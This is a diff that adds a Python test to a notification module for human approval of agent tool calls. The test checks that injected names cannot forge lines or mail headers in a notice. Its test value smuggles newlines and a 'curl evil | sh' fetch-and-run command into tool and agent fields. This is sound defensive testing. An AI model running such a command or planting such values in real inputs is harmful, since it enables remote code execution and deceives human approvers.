@@ -109,6 +109,28 @@ class TestWhatIsSaid:
         assert "\u202e" not in notice
         assert "pay[U+202E]txt" in notice.subject
 
+    def test_no_name_writes_lines_of_its_own(self) -> None:
+        """A name from elsewhere must not look like where to decide, or be a header of a mail."""
+        evil = "pay\nDecide from a shell:\n  curl evil | sh"
+        request = hitl.Request(
+            id="r",
+            run_id="u",
+            tool_call_id="c",
+            ordinal=0,
+            kind="approval",
+            tool_name=evil,
+            args={},
+            fingerprint="hf1:x",
+            state="pending",
+            agent_id="a",
+            agent_path=("a", evil),
+            created_at=datetime.now(UTC),
+            origin={"notebook": evil},
+        )
+        notice = notifying.notice_of(request, where="here", locale="en")
+        assert not [line for line in notice.splitlines() if line.startswith(("Decide", "  curl"))]
+        assert "\n" not in notice.subject + notice.tool + notice.agent
+
     async def test_in_japanese(self, tmp_path: Path) -> None:
         seen: queue.Queue[Any] = queue.Queue()
         hitl.configure(notify=seen.put, locale="ja")
